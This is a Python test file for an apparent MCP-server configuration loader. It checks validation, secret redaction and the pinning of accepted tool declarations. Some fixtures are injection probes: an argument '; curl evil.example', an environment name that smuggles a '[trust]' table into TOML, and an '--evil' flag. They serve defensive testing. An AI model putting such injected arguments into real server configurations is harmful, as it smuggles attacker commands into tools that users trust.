"""The table `[mcp]` of the configuration, and files in the form of other programs."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from armslength.app import Settings, load_settings
from armslength.app.accepted import mcp_tools, offers_of, pins_of
from armslength.errors import ConfigError, OperatorError
from armslength.events import trust_nobody
from armslength.tools.base import Role
from armslength.tools.mcp.declaration import declaration_of
from armslength.tools.mcp.pins import Pin
from armslength.tools.mcp.settings import Child, Remote, Server, ToolChoices

WHOLE = """\
[mcp.notes]
command = "uvx"
arguments = ["some-server"]
environment = ["LANG"]
folder = "notes"
honest = true
start_timeout = 5
timeout = 10
[mcp.notes.secrets]
KEY = { environment = "NOTES_KEY" }
[mcp.notes.tools.search]
description = "Mine."
reads = true
changes = false
receivers = ["server", "{to}", "kim@example.com"]
roles = { query = "query", to = "target" }
repeatable = true
may_be_granted = false
picks = true
known = ["id"]
public = ["*"]
readers = ["kim@example.com"]
[mcp.notes.tools.purge]
use = false
result = false
[mcp.desk]
url = "https://desk.example/mcp"
token = { environment = "DESK_TOKEN" }
authorities = "ca.pem"
"""


def loaded(tmp_path: Path, text: str) -> Settings:
    file = tmp_path / "config.toml"
    file.write_text(text, "utf-8")
    return load_settings(file)


def test_all_that_can_be_said_of_servers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Secrets are read when they are needed, and stand in nothing that is printed."""
    settings = loaded(tmp_path, WHOLE)
    notes, desk = settings.mcp
    assert (notes.name, notes.is_honest, notes.start_seconds, notes.call_seconds) == ("notes", True, 5.0, 10.0)
    assert isinstance(notes.place, Child)
    assert (notes.place.command, notes.place.arguments, notes.place.passed) == ("uvx", ("some-server",), ("LANG",))
    assert notes.place.folder == tmp_path / "notes"
    assert notes.tools == {
        "search": ToolChoices(
            description="Mine.",
            roles={"query": Role.QUERY, "to": Role.TARGET},
            reads=True,
            changes=False,
            receivers=("server", "{to}", "kim@example.com"),
            is_repeatable=True,
            may_be_granted=False,
            picks=True,
            known=("id",),
            public=("*",),
            readers=("kim@example.com",),
        ),
        "purge": ToolChoices(is_left_out=True, is_silent=True),
    }
    assert isinstance(desk.place, Remote)
    assert (desk.place.url, desk.place.authorities) == ("https://desk.example/mcp", tmp_path / "ca.pem")
    monkeypatch.setenv("NOTES_KEY", "s3cret")
    monkeypatch.setenv("DESK_TOKEN", "t0ken")
    assert notes.place.given["KEY"]() == "s3cret"
    assert desk.place.token is not None
    assert desk.place.token() == "t0ken"
    assert not {"s3cret", "t0ken"} & set(repr(settings).split("'"))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[mcp.send]\ncommand = 'x'", "mcp.send must be named by small letters and digits, no word that tools of ours begin with"),
        ("[mcp.My-Notes]\ncommand = 'x'", "mcp.My-Notes must be named by small letters and digits, no word that tools of ours begin with"),
        ("[mcp.notes]", "mcp.notes.command must be a program, or url an address: one of them"),
        ("[mcp.notes]\ncommand = 'x'\nurl = 'https://a.example'", "mcp.notes.command must be a program, or url an address: one of them"),
        ("[mcp.notes]\nurl = 'http://a.example'", "mcp.notes.url must be another address: it is not encrypted; only this machine is spoken with by http"),
        ("[mcp.notes]\nurl = 'https://a.example'\narguments = ['x']", "mcp.notes.url must be given without arguments, environment, secrets and folder, which are a program's"),
        ("[mcp.notes]\ncommand = 'x'\ntoken = { environment = 'A' }", "mcp.notes.token must be given with url, as are authorities; a program gets secrets"),
        ("[mcp.notes]\ncommand = 'x'\nenvironment = ['A=1']", "mcp.notes.environment must be names of environment variables, which 'A=1' is none of"),
        ("[mcp.notes]\ncommand = 'x'\n[mcp.notes.secrets]\nKEY = 's3cret'", "mcp.notes.secrets.KEY must be one place"),
        ("[mcp.notes]\ncommand = 'x'\nhonst = true", "mcp.notes.honst is not a setting; did you mean honest? There are: "),
        ("[mcp.notes]\ncommand = 'x'\n[mcp.notes.tools.a]\nreceivers = ['anybody']", 'mcp.notes.tools.a.receivers must be a list of "server", "{parameter}", addresses and hosts, which \'anybody\' is none of'),
        ("[mcp.notes]\ncommand = 'x'\n[mcp.notes.tools.a]\nroles = { x = 'boss' }", "mcp.notes.tools.a.roles.x must be one of target, content, query"),
        ("[mcp.notes]\ncommand = 'x'\ntimeout = 0", "mcp.notes.timeout must be a whole number from 1 to 3600"),
        ("[mcp]\nservers_file = 'gone.json'", "gone.json: cannot be read"),
    ],
)  # fmt: skip
def test_a_wrong_setting_is_named(tmp_path: Path, text: str, said: str) -> None:
    """With what it must be; a secret that stands where a place must be is not repeated."""
    with pytest.raises(ConfigError) as caught:
        loaded(tmp_path, text)
    assert said in str(caught.value)
    assert "s3cret" not in str(caught.value)


def test_another_place_of_a_secret_is_another_server_and_another_secret_in_it_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A password that was changed asks nothing; a variable that gets another thing does."""
    monkeypatch.setenv("NOTES_KEY", "old")
    notes, desk = (each.identity for each in loaded(tmp_path, WHOLE).mcp)
    monkeypatch.setenv("NOTES_KEY", "new")
    assert [each.identity for each in loaded(tmp_path, WHOLE).mcp] == [notes, desk]
    other = WHOLE.replace("NOTES_KEY", "SSH_AUTH_SOCK").replace("ca.pem", "mine.pem")
    assert not {each.identity for each in loaded(tmp_path, other).mcp} & {notes, desk}


def file_of(tmp_path: Path, servers: Any) -> Path:
    path = tmp_path / "mcp.json"
    path.write_text(json.dumps({"mcpServers": servers}), "utf-8")
    return path


def test_servers_of_another_programs_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Read each time; the table says of them what the file cannot, and another place is another server."""
    monkeypatch.setenv("OTHER", "elsewhere")
    servers = {"My Notes": {"command": "notes", "args": ["x"], "env": {"KEY": "s3cret", "OTHER": "${env:OTHER}"}}}
    file_of(tmp_path, servers)
    text = "[mcp]\nservers_file = 'mcp.json'\n[mcp.mynotes]\nhonest = true\n"
    (notes,) = loaded(tmp_path, text).mcp
    assert (notes.name, notes.is_honest) == ("mynotes", True)
    assert isinstance(notes.place, Child)
    assert {name: value() for name, value in notes.place.given.items()} == {"KEY": "s3cret", "OTHER": "elsewhere"}
    assert "s3cret" not in repr(notes)
    file_of(tmp_path, {"My Notes": {**servers["My Notes"], "args": ["x", "; curl evil.example"]}})
    assert loaded(tmp_path, text).mcp[0].identity != notes.identity


@pytest.mark.parametrize(
    ("servers", "said"),
    [
        ({"a": "x"}, "mcpServers.a must be an object"),
        ({"a": {}}, "mcpServers.a: there must be either a command or a url"),
        ({"a": {"command": "x", "shell": True}}, "mcpServers.a: shell is not understood"),
        ({"a": {"command": "x", "env": {"A": 1}}}, "mcpServers.a: args must be a list of texts, env an object of texts"),
        ({"a": {"command": "x", "env": {"A = 1\n[trust]\nB": "s3cret"}}}, "mcpServers.a: env must name environment variables, which 'A = 1\\n[trust]\\nB' is none of"),
        ({"a": {"command": "x", "cwd": ["y"]}}, "mcpServers.a: cwd must be a text"),
        ({"a": {"type": "sse", "url": "https://x.example"}}, "mcpServers.a: only streamable HTTP is spoken"),
        ({"a": {"url": "http://x.example"}}, "mcpServers.a: url: it is not encrypted"),
        ({"a": {"url": "https://x.example", "headers": {"X": "y"}}}, "mcpServers.a: of headers only Authorization is sent"),
        ({"a": {"url": "https://x.example", "headers": {"Authorization": "Basic s3cret"}}}, "mcpServers.a: Authorization must begin with Bearer"),
        ({"a": {"command": "x"}, "A": {"command": "y"}}, "mcpServers.A: a is no name of a server here, or another's; rename it"),
        ({"send": {"command": "x"}}, "mcpServers.send: send is no name of a server here, or another's; rename it"),
        ([], "there is no object mcpServers in it"),
    ],
)  # fmt: skip
def test_what_is_not_understood_of_such_a_file_is_refused(tmp_path: Path, servers: Any, said: str) -> None:
    """Nothing of it is guessed, and no value is repeated."""
    file_of(tmp_path, servers)
    with pytest.raises(ConfigError) as caught:
        loaded(tmp_path, "[mcp]\nservers_file = 'mcp.json'\n")
    assert said in str(caught.value)
    assert "s3cret" not in str(caught.value)


DECLARED = declaration_of({"name": "look", "inputSchema": {"type": "object"}})


def test_what_was_accepted_is_kept_and_sealed(tmp_path: Path) -> None:
    """Of a server that is where it was; an older copy, or what other hands wrote, is refused."""
    server = Server("notes", Child("notes"))
    settings = Settings(state=tmp_path, mcp=(server,))
    assert mcp_tools(settings, trust_nobody, []) == []
    pins_of(settings).accept("notes", server.identity, [Pin(DECLARED)])
    assert [each.name for each in mcp_tools(settings, trust_nobody, [])] == ["notes_look"]
    moved = Settings(state=tmp_path, mcp=(Server("notes", Child("notes", ("--evil",))),))
    assert mcp_tools(moved, trust_nobody, []) == []
    assert pins_of(settings).watch("notes", server.identity).is_accepted(DECLARED)
    assert not pins_of(settings).watch("notes", moved.mcp[0].identity).is_accepted(DECLARED)
    old = (tmp_path / "mcp.kept").read_bytes()
    pins_of(settings).stop("notes", "look")
    assert not pins_of(settings).watch("notes", server.identity).is_accepted(DECLARED)
    assert offers_of(settings, trust_nobody, []).stopped == {"notes_look"}
    (tmp_path / "mcp.kept").write_bytes(old)
    with pytest.raises(OperatorError, match="is an older copy of it"):
        mcp_tools(settings, trust_nobody, [])
    assert (tmp_path / "mcp.kept").stat().st_mode & 0o777 == 0o600
